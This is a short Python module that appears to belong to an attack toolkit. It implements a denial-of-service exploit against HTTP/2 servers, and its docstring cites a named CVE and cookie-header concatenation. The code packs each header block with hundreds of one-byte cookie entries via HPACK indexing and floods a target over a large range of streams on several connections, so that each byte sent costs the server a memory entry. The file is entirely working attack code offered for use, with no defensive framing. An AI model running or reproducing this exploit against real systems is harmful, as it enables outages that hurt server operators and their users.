"""Header blocks over HTTP/2 with as many cookie fields of one byte as fit, which a server
concatenates (RFC 9113, 8.2.3; CVE-2026-49975): each byte on the wire is an entry in
memory."""

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    # An entry of the static table, then one byte without a name of its own.
    crumbs = frames.head(more=b"\x60\x01a" + b"\xbe" * 900)

    def batches():
        for stream in range(1, 1 << 20, 2):
            yield frames.request(stream, crumbs)

    return await target.flood(8, frames.opening(), batches)
